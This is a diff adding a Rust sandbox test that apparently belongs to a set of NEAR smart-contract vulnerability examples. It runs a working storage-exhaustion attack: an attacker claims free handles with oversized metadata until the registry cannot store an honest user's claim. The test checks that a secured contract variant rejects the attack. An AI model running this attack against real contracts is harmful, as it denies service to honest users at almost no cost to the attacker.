@@ -0,0 +1,72 @@
+//! Free handles fill the contract's storage until honest claims fail
+
+use anyhow::{ensure, Result as AnyResult};
+use near_workspaces::types::NearToken;
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "storage_drain",
+    description: "Attacker-sized metadata locks the registry's whole balance for storage",
+    must_succeed: || Box::pin(attack("storage_drain")),
+    must_fail: || Box::pin(attack("storage_drain_secure")),
+    rejection: "Metadata too long",
+};
+
+/// Enough for the code and a few NEAR of headroom
+const REGISTRY_BALANCE: NearToken = NearToken::from_near(5);
+/// 100 kB locks 1 NEAR; smaller chunks fill whatever is left over
+const METADATA_SIZES: [usize; 4] = [100_000, 10_000, 1_000, 100];
+const MAX_CLAIMS_PER_SIZE: usize = 10;
+/// An ordinary profile, as an honest user would register it
+const HONEST_METADATA_BYTES: usize = 1_000;
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let registry = s
+        .deploy(contract, "registry", REGISTRY_BALANCE, json!({}))
+        .await?;
+
+    let before = s.balance(s.attacker.id()).await?;
+    let mut claimed = 0;
+    for size in METADATA_SIZES {
+        let metadata = "x".repeat(size);
+        for _ in 0..MAX_CLAIMS_PER_SIZE {
+            let outcome = s
+                .attacker
+                .call(registry.id(), "claim_handle")
+                .args_json(json!({ "handle": format!("spam-{claimed}"), "metadata": metadata }))
+                .max_gas()
+                .transact()
+                .await?;
+            if outcome.is_failure() {
+                if claimed == 0 {
+                    // Not even the first handle: why the registry refused
+                    outcome.into_result()?;
+                }
+                break;
+            }
+            claimed += 1;
+        }
+    }
+    let spent = before.saturating_sub(s.balance(s.attacker.id()).await?);
+    ensure!(claimed > 0, "no handle could be claimed for free");
+    ensure!(
+        spent < NearToken::from_near(1),
+        "attacker paid {spent} for {claimed} handles"
+    );
+
+    // The registry can no longer afford any new state
+    let honest = s
+        .victim
+        .call(registry.id(), "claim_handle")
+        .args_json(json!({
+            "handle": "alice",
+            "metadata": "x".repeat(HONEST_METADATA_BYTES),
+        }))
+        .transact()
+        .await?;
+    ensure!(honest.is_failure(), "honest claim still succeeds");
+    Ok(())
+}